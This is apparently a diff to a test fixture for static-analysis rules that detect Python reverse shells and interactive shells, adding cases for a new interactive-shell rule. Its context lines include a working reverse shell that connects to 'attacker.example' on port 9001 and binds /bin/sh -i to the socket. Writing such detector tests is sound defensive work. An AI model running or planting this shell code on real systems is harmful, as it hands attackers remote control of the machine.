@@ -22,7 +22,7 @@ def shell():
 def shell2():
     # ruleid: py-socket-literal-address
     s = socket.create_connection(("attacker.example", 9001))
-    # ruleid: py-reverse-shell
+    # ruleid: py-reverse-shell, py-interactive-shell
     subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
 
 
@@ -46,3 +46,21 @@ def benign():
     # ok: py-raw-socket
     u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     return s, u
+
+
+async def support_session():
+    # ruleid: py-interactive-shell
+    proc = await asyncio.create_subprocess_exec("/bin/sh", "-i", stdin=asyncio.subprocess.PIPE)
+    # ruleid: py-interactive-shell
+    subprocess.Popen(["bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    # ruleid: py-interactive-shell
+    os.execv("/bin/bash", ["bash", "-i"])
+    return proc
+
+
+async def scripted():
+    # ok: py-interactive-shell
+    proc = await asyncio.create_subprocess_exec("/bin/sh", "-c", "ls -l /tmp")
+    # ok: py-interactive-shell
+    subprocess.run(["convert", "-i", "in.png", "out.jpg"], check=True)
+    return proc
